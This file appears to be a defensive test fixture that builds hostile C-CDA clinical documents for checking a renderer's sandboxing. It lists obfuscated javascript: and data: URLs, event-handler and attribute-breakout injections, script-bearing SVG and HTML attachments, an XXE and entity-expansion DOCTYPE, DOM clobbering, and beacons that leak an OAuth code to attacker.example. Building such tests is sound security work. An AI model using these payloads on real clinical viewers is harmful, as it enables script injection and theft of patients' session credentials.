/**
 * One hostile C-CDA per attack class of issue 5 (and ccda-renderers.md §8), written by our code. Every script
 * a document tries to run calls the tripwire `__tw(label)` (or alert/prompt/confirm/print, which the e2e
 * tripwire also counts); every resource it tries to load points at ATTACKER or at our own origin.
 */
import { b64, cdata, ccdaDocument, esc, section, author, CANARY, type DocOptions } from "./ccda-skeleton";
import { bigPng, hostilePdf } from "./hostile-binaries";

export const ATTACKER = "https://attacker.example";
/** What a 2014-style beacon would carry off: the address bar of a SMART app mid-launch. */
const LEAK = `${ATTACKER}/beacon.png?code=LEAKED-CODE&state=LEAKED-STATE`;

export interface HostileDoc {
  /** File name (the local page and the SMART list both show it). */
  file: string;
  /** The attack class, as the issue words it. */
  attackClass: string;
  xml: string;
  /** Also served by the hostile sandbox (the SMART path). */
  smart: boolean;
  /** Text the rendered document must show (it renders normally despite the attack). */
  mustShow?: readonly string[];
  /** The document is refused with a clear message instead (DOCTYPE). */
  refused?: RegExp;
}

const tw = (label: string): string => `__tw('${label}')`;
/** An attribute value that keeps its character references (the tricks) but stays well-formed. */
const attr = (s: string): string => s.replace(/</g, "&lt;").replace(/"/g, "&quot;");

const handlers = (label: string): string =>
  ["onclick", "onmouseover", "onfocus", "onload", "onerror", "onanimationstart", "onpointerenter"]
    .map((h) => `${h}="${tw(`${label}-${h}`)}"`)
    .join(" ");
const OVERLAY_STYLE = 'style="position:fixed;inset:0;z-index:2147483647;background:red;opacity:.9"';

function eventHandlers(): string {
  const a = (label: string): string => `${handlers(label)} ${OVERLAY_STYLE} tabindex="0" autofocus=""`;
  return section(
    "Event handlers",
    `<paragraph ${a("p")}>paragraph <content ${a("content")}>content</content>
      <linkHtml href="https://example.org/" ${a("link")}>link</linkHtml><footnote ${a("fn")}>note</footnote></paragraph>
     <list ${a("list")}><item ${a("item")}>item</item></list>
     <table ${a("table")} border="1" onresize="${tw("table-resize")}"><caption ${a("caption")}>cap</caption>
       <thead><tr ${a("tr")}><th ${a("th")}>h</th></tr></thead><tbody><tr><td ${a("td")}>cell</td></tr></tbody></table>`,
  );
}

const SCHEME_TRICKS = [
  "javascript:__tw('js-plain')",
  "  JaVaScRiPt:__tw('js-case')",
  "jav&#x09;ascript:__tw('js-tab')",
  "jav&#x0A;ascript:__tw('js-newline')",
  "jav&#x0D;ascript:__tw('js-cr')",
  "&#x20;&#x09;&#x0A;javascript:__tw('js-leading')",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:__tw('js-numeric-entities')",
  "javascript&amp;colon;__tw('js-html-entity')",
  "javascript&amp;#58;__tw('js-double-entity')",
  "java\u00ADscript:__tw('js-soft-hyphen')",
  "javascript://%0A__tw('js-comment')",
  "data:text/html;base64,PHNjcmlwdD5fX3R3KCdkYXRhJyk8L3NjcmlwdD4=",
  "DATA:text/html,<script>__tw('data-upper')</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__tw(1)'/>",
  "vbscript:msgbox(1)",
  " VBScript:msgbox(1)",
  "livescript:__tw('livescript')",
  "blob:https://attacker.example/x",
  "filesystem:https://attacker.example/x",
  "//attacker.example/protocol-relative",
];

function urlSchemes(): string {
  const links = SCHEME_TRICKS.map((h, i) => `<linkHtml href="${attr(h)}">link ${i}</linkHtml>`);
  const refs = SCHEME_TRICKS.map(
    (h, i) =>
      `<entry><observationMedia classCode="OBS" moodCode="EVN" ID="MMs${i}"><value mediaType="image/png"><reference value="${attr(h)}"/></value></observationMedia></entry>`,
  );
  const rmm = SCHEME_TRICKS.map((_, i) => `<renderMultiMedia referencedObject="MMs${i}"/>`).join("");
  return section(
    "URL schemes",
    `<paragraph>${links.join(" ")}</paragraph><paragraph>${rmm}</paragraph>`,
    refs.join(""),
  );
}

const HTML_ATTACHMENT = `<!doctype html><html><head><base href="${ATTACKER}/"><meta http-equiv="refresh" content="0;url=javascript:${tw("meta")}"><link rel="stylesheet" href="${ATTACKER}/x.css"></head><body onload="${tw("html-body")}"><script>${tw("html-script")}</script><img src="${LEAK}" onerror="${tw("html-img")}"><iframe src="javascript:${tw("html-iframe")}"></iframe><p>HTML attachment text</p></body></html>`;
const SVG_ATTACHMENT = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${tw("svg-onload")}"><script>${tw("svg-script")}</script><image xlink:href="${LEAK}"/><a xlink:href="javascript:${tw("svg-a")}"><text y="20">svg</text></a></svg>`;

function svgInSection(): string {
  return section(
    "SVG and HTML in sections",
    `<paragraph>Inline attachments:<renderMultiMedia referencedObject="MMsvg"/><renderMultiMedia referencedObject="MMhtml"/></paragraph>`,
    `<entry><observationMedia classCode="OBS" moodCode="EVN" ID="MMsvg"><value mediaType="image/svg+xml" representation="B64">${b64(SVG_ATTACHMENT)}</value></observationMedia></entry>
     <entry><observationMedia classCode="OBS" moodCode="EVN" ID="MMhtml"><value mediaType="text/html" representation="B64">${b64(HTML_ATTACHMENT)}</value></observationMedia></entry>`,
  );
}

function externalRefs(): string {
  const values = [LEAK, `${ATTACKER}/p.gif`, `http://attacker.example/x.png`, "//attacker.example/y.png"];
  const entries = values
    .map(
      (v, i) =>
        `<entry><observationMedia classCode="OBS" moodCode="EVN" ID="MMx${i}"><value mediaType="image/png"><reference value="${esc(v)}"/></value></observationMedia></entry>`,
    )
    .join("");
  return section(
    "External references",
    `<paragraph>Beacons: ${values.map((_, i) => `<renderMultiMedia referencedObject="MMx${i}"/>`).join("")}
      <linkHtml href="${esc(LEAK)}">tracking link</linkHtml></paragraph>`,
    entries,
  );
}

function relativeRefs(): string {
  const values = [
    "../../viewer?logout=1",
    "/local",
    "Binary/b-ava-reyes-26",
    "./assets/index.js",
    "?code=stolen",
    "#",
  ];
  const entries = values
    .map(
      (v, i) =>
        `<entry><observationMedia classCode="OBS" moodCode="EVN" ID="MMr${i}"><value mediaType="image/png"><reference value="${esc(v)}"/></value></observationMedia></entry>`,
    )
    .join("");
  return section(
    "Relative references",
    `<paragraph>${values.map((_, i) => `<renderMultiMedia referencedObject="MMr${i}"/>`).join("")}
      ${values.map((v, i) => `<linkHtml href="${esc(v)}">relative ${i}</linkHtml>`).join(" ")}</paragraph>`,
    entries,
  );
}

function escapedAndCdata(): string {
  return section(
    "Escaped markup and CDATA",
    `<paragraph>&lt;img src=x onerror=${tw("escaped")}&gt; and &amp;lt;script&amp;gt;${tw("double")}&amp;lt;/script&amp;gt;</paragraph>
     <paragraph>${cdata(`<script>${tw("cdata")}</script><img src=x onerror="${tw("cdata-img")}"><svg onload=${tw("cdata-svg")}>`)}</paragraph>
     <table><tbody><tr><td>${cdata(`</td></tr></table><script>${tw("cdata-td")}</script>`)}</td></tr></tbody></table>`,
  );
}

function namespaced(): string {
  return section(
    "Namespaced elements",
    `<paragraph>
      <h:script xmlns:h="http://www.w3.org/1999/xhtml">${tw("xhtml-script")}</h:script>
      <h:img xmlns:h="http://www.w3.org/1999/xhtml" src="${esc(LEAK)}" onerror="${tw("xhtml-img")}"/>
      <h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:${tw("xhtml-iframe")}"/>
      <h:style xmlns:h="http://www.w3.org/1999/xhtml">body{display:none}</h:style>
      <h:base xmlns:h="http://www.w3.org/1999/xhtml" href="${ATTACKER}/"/>
      <h:form xmlns:h="http://www.w3.org/1999/xhtml" action="${ATTACKER}/"><h:button>submit</h:button></h:form>
      <s:svg xmlns:s="http://www.w3.org/2000/svg" onload="${tw("svg-onload")}"><s:script>${tw("svg-script")}</s:script><s:animate attributeName="href" to="javascript:${tw("svg-animate")}"/></s:svg>
      <m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:maction actiontype="statusline" xmlns:xl="http://www.w3.org/1999/xlink" xl:href="javascript:${tw("mathml")}">MathML text</m:maction></m:math>
      <script>${tw("v3-script")}</script><img src="${esc(LEAK)}"/><a href="javascript:${tw("v3-a")}">CDA r3 a</a>
    </paragraph>`,
  );
}

const BREAKOUT = `x" onmouseover="${tw("breakout")}" x="`;
function attributeBreakout(): string {
  const tag = `"><img src=x onerror=${tw("breakout-tag")}>`;
  return section(
    `Breakout ${tag}`,
    `<paragraph ID="${esc(BREAKOUT)}" styleCode="${esc(`Bold" onclick="${tw("style")}`)}">
      <content ID="${esc(tag)}" language="${esc(BREAKOUT)}">content</content>
      <linkHtml href="https://example.org/&quot;onmouseover=&quot;${tw("href")}" title="${esc(tag)}">link</linkHtml>
      <footnoteRef IDREF="${esc(BREAKOUT)}"/></paragraph>
     <table><tbody><tr><td colspan="${esc(`2" onclick="${tw("colspan")}`)}" align="${esc(BREAKOUT)}">${esc(tag)}</td></tr></tbody></table>`,
  );
}

/** The app's own ids (index.html #root, the relaunch screen) and globals the app and the tripwire rely on. */
export const CLOBBER_NAMES = [
  "root",
  "launch-again-title",
  "__tw",
  "alert",
  "fetch",
  "localStorage",
  "sessionStorage",
  "document",
  "location",
  "cookie",
  "top",
  "parent",
  "self",
  "name",
  "ccda-container",
  "__proto__",
  "constructor",
];

function domClobbering(): string {
  const ids = CLOBBER_NAMES.map((id) => `<content ID="${esc(id)}">id ${esc(id)}</content>`).join(" ");
  const dup = CLOBBER_NAMES.map((id) => `<paragraph ID="${esc(id)}">again ${esc(id)}</paragraph>`).join("");
  const links = CLOBBER_NAMES.map(
    (id) => `<linkHtml name="${esc(id)}" href="#${esc(id)}">to ${esc(id)}</linkHtml>`,
  );
  return section(
    "DOM clobbering",
    `<paragraph>${ids}</paragraph>${dup}<paragraph>${links.join(" ")}</paragraph>`,
  );
}

const APP_CLASSES = [
  "viewer",
  "two-pane",
  "session-ended",
  "error-panel",
  "visually-hidden",
  "centered-screen",
];
function overlay(): string {
  const styleCodes = [
    ...APP_CLASSES,
    "ccda-container",
    "ccda-show-deletions",
    "xPosFixed",
    "Bold position:fixed",
  ];
  const long = "W".repeat(6000);
  const cols = Array.from({ length: 120 }, (_, i) => `<td>column-${i}-${"x".repeat(20)}</td>`).join("");
  return section(
    "Overlay and hide",
    `${styleCodes.map((s) => `<paragraph styleCode="${esc(s)}" ${OVERLAY_STYLE}>styled ${esc(s)}</paragraph>`).join("")}
     <paragraph>${long}</paragraph><paragraph><linkHtml href="https://example.org/${long}">https://example.org/${long}</linkHtml></paragraph>
     <table width="20000" ${OVERLAY_STYLE}><tbody><tr>${cols}</tr></tbody></table>
     <paragraph><content styleCode="xPosFixed">${"&#x200B;".repeat(50)}</content>margin-left:-9999px</paragraph>`,
  );
}

function stylesheetPis(): string {
  return section(
    "Stylesheets",
    `<?xml-stylesheet type="text/css" href="${ATTACKER}/in-text.css"?><paragraph>text<?xml-stylesheet href="javascript:${tw("pi")}"?></paragraph>`,
  );
}
const STYLESHEET_PROLOG = `<?xml-stylesheet type="text/xsl" href="${ATTACKER}/evil.xsl"?>\n<?xml-stylesheet type="text/css" href="/assets/app.css"?>\n`;

const DOCTYPE_PROLOG = `<!DOCTYPE ClinicalDocument [
  <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
  <!ENTITY xxe SYSTEM "${ATTACKER}/xxe?code=LEAKED">
  <!ENTITY % remote SYSTEM "${ATTACKER}/remote.dtd"> %remote;
]>\n`;

function deepNesting(levels: number): string {
  return section(
    "Deep",
    `<paragraph>${"<content>".repeat(levels)}deepest text${"</content>".repeat(levels)}</paragraph>`,
  );
}

function bigTable(rows: number): string {
  const body = Array.from({ length: rows }, (_, i) => `<tr><td>row ${i}</td><td>value</td></tr>`).join("");
  return section(
    "Big table",
    `<table><thead><tr><th>Row</th><th>Value</th></tr></thead><tbody>${body}</tbody></table>`,
  );
}

function footnotes(count: number): string {
  const notes = Array.from(
    { length: count },
    (_, i) => `<content>n${i}<footnote ID="f${i}">footnote ${i}</footnote></content>`,
  );
  return section("Footnotes", `<paragraph>${notes.join("")}</paragraph>`);
}

function hugeImage(bytes: number): string {
  return section(
    "Huge image",
    `<paragraph>An image of ${Math.round(bytes / 1e6)} MB:<renderMultiMedia referencedObject="MMbig"/></paragraph>`,
    `<entry><observationMedia classCode="OBS" moodCode="EVN" ID="MMbig"><value mediaType="image/png" representation="B64">${b64(bigPng(bytes))}</value></observationMedia></entry>`,
  );
}

export const JAVASCRIPT_WORDS = [
  "Patient education: JavaScript class on Tuesday",
  "javascript: the patient typed this in the portal",
];
function javascriptWord(): string {
  return section(
    "JavaScript education",
    `<paragraph><content title="Intro to JavaScript">${esc(JAVASCRIPT_WORDS[0] ?? "")}</content></paragraph>
     <paragraph>${esc(JAVASCRIPT_WORDS[1] ?? "")}</paragraph>
     <paragraph><linkHtml href="https://example.org/javascript-basics.pdf">javascript handout</linkHtml></paragraph>`,
  );
}

/** Right-to-left override / embedding / isolate characters that could make "evil" read as "live". */
export const BIDI_NAME = "\u202Elive\u202C";
export const BIDI_TRAIL = "Eve \u202E\u2069\u2067evil";
function bidiHeader(): string {
  return author({
    given: BIDI_TRAIL,
    family: "Spoofer",
    street: "\u202E12 Main",
    telecoms: ["tel:\u202E+1-555-0199"],
  });
}

export const JS_TELECOMS = [
  `javascript:${tw("telecom")}`,
  ` JaVaScRiPt:${tw("telecom-case")}`,
  `java\tscript:${tw("telecom-tab")}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${tw("telecom-data")}</script>`,
  "tel:+1-555-0100",
  "mailto:care@example.org",
];

function doc(
  file: string,
  attackClass: string,
  build: Omit<DocOptions, "title">,
  extra: Partial<HostileDoc> = {},
): HostileDoc {
  return {
    file,
    attackClass,
    xml: ccdaDocument({ title: `Hostile: ${attackClass}`, ...build }),
    smart: false,
    ...extra,
  };
}

export interface HostileSizes {
  nesting: number;
  rows: number;
  footnotes: number;
  imageBytes: number;
}

export const ISSUE_SIZES: HostileSizes = {
  nesting: 10_000,
  rows: 20_000,
  footnotes: 10_000,
  imageBytes: 20_000_000,
};

/** The documents of every attack class. `sizes` scales the four big ones (the issue's sizes by default). */
export function hostileDocs(sizes: HostileSizes = ISSUE_SIZES): HostileDoc[] {
  const nonXml = (mediaType: string, payload: string): string =>
    `<nonXMLBody><text mediaType="${mediaType}" representation="B64">${b64(payload)}</text></nonXMLBody>`;
  return [
    doc(
      "h01-event-handlers.xml",
      "event-handler and style attributes",
      { sections: [eventHandlers()] },
      { smart: true, mustShow: ["cell"] },
    ),
    doc(
      "h02-url-schemes.xml",
      "javascript:/data:/vbscript: links with tricks",
      { sections: [urlSchemes()] },
      { smart: true, mustShow: ["link 3"] },
    ),
    doc(
      "h03-html-attachment.xml",
      "HTML attachment with script",
      { nonXmlBody: nonXml("text/html", HTML_ATTACHMENT) },
      { smart: true },
    ),
    doc("h03-svg-attachment.xml", "SVG attachment with script", {
      nonXmlBody: nonXml("image/svg+xml", SVG_ATTACHMENT),
    }),
    doc("h03-inline-svg-html.xml", "SVG and HTML observationMedia", { sections: [svgInSection()] }),
    doc(
      "h04-pdf.xml",
      "PDF with JavaScript and URI actions",
      {
        nonXmlBody: `<nonXMLBody><text mediaType="application/pdf" representation="B64">${b64(hostilePdf(LEAK))}</text></nonXMLBody>`,
      },
      { smart: true },
    ),
    doc(
      "h05-external-refs.xml",
      "external images and references",
      { sections: [externalRefs()] },
      { smart: true },
    ),
    doc("h05-nonxml-reference.xml", "nonXMLBody reference", {
      nonXmlBody: `<nonXMLBody><text mediaType="text/html"><reference value="${esc(LEAK)}"/></text></nonXMLBody>`,
    }),
    doc(
      "h06-relative-refs.xml",
      "relative references to our origin",
      { sections: [relativeRefs()] },
      { smart: true },
    ),
    doc(
      "h07-escaped-cdata.xml",
      "escaped markup and CDATA",
      { sections: [escapedAndCdata()] },
      { mustShow: [`<script>${tw("cdata")}</script>`] },
    ),
    doc(
      "h08-namespaces.xml",
      "XHTML, SVG and MathML elements",
      { sections: [namespaced()] },
      { mustShow: ["MathML text"] },
    ),
    doc(
      "h09-attribute-breakout.xml",
      "attribute breakout",
      {
        sections: [attributeBreakout()],
        patient: { given: `"><img src=x onerror=${tw("given")}>`, family: BREAKOUT },
      },
      { smart: true },
    ),
    doc(
      "h10-dom-clobbering.xml",
      "ID collisions and DOM clobbering",
      { sections: [domClobbering()] },
      { smart: true },
    ),
    doc("h11-overlay.xml", "class and style injection", { sections: [overlay()] }, { smart: true }),
    doc(
      "h12-xml-stylesheet.xml",
      "xml-stylesheet",
      { prolog: STYLESHEET_PROLOG, sections: [stylesheetPis()] },
      { smart: true },
    ),
    doc(
      "h13-doctype.xml",
      "DOCTYPE with entity expansion and external entities",
      {
        prolog: DOCTYPE_PROLOG,
        sections: [section("Entities", "<paragraph>&e;&xxe;</paragraph>")],
      },
      { smart: true, refused: /DOCTYPE|document type/i },
    ),
    // Parsers cap nesting (libxml2 at 256 levels): refusing with a message or rendering are both fine.
    doc(
      `h14-nesting-${sizes.nesting}.xml`,
      `${sizes.nesting} nested elements`,
      { sections: [deepNesting(sizes.nesting)] },
      { mustShow: [] },
    ),
    doc(
      `h15-table-${sizes.rows}.xml`,
      `${sizes.rows}-row table`,
      { sections: [bigTable(sizes.rows)] },
      { mustShow: [`row ${sizes.rows - 1}`] },
    ),
    doc(
      `h16-footnotes-${sizes.footnotes}.xml`,
      `${sizes.footnotes} footnotes`,
      { sections: [footnotes(sizes.footnotes)] },
      { mustShow: [`footnote ${sizes.footnotes - 1}`] },
    ),
    doc(`h17-image-${sizes.imageBytes}.xml`, `${Math.round(sizes.imageBytes / 1e6)} MB image`, {
      sections: [hugeImage(sizes.imageBytes)],
    }),
    doc(
      "h18-javascript-word.xml",
      'the word "javascript" in text',
      { sections: [javascriptWord()] },
      { smart: true, mustShow: JAVASCRIPT_WORDS },
    ),
    doc(
      "h19-bidi-names.xml",
      "bidi-override characters in names",
      {
        patient: { given: BIDI_NAME, family: "Reyes" },
        extraHeader: bidiHeader(),
        sections: [section("Bidi", `<paragraph>Seen by <content>${BIDI_TRAIL}</content> today.</paragraph>`)],
      },
      { smart: true },
    ),
    doc(
      "h20-telecom-javascript.xml",
      "telecoms with javascript:",
      {
        patient: { given: "Tele", family: "Com", telecoms: JS_TELECOMS },
        extraHeader: author({ given: "Tele", family: "Author", telecoms: JS_TELECOMS }),
      },
      { smart: true, mustShow: ["+1-555-0100", "javascript:__tw('telecom')"] },
    ),
  ].map((d) =>
    d.mustShow === undefined && d.refused === undefined && !d.xml.includes("<nonXMLBody>")
      ? { ...d, mustShow: [CANARY] }
      : d,
  );
}
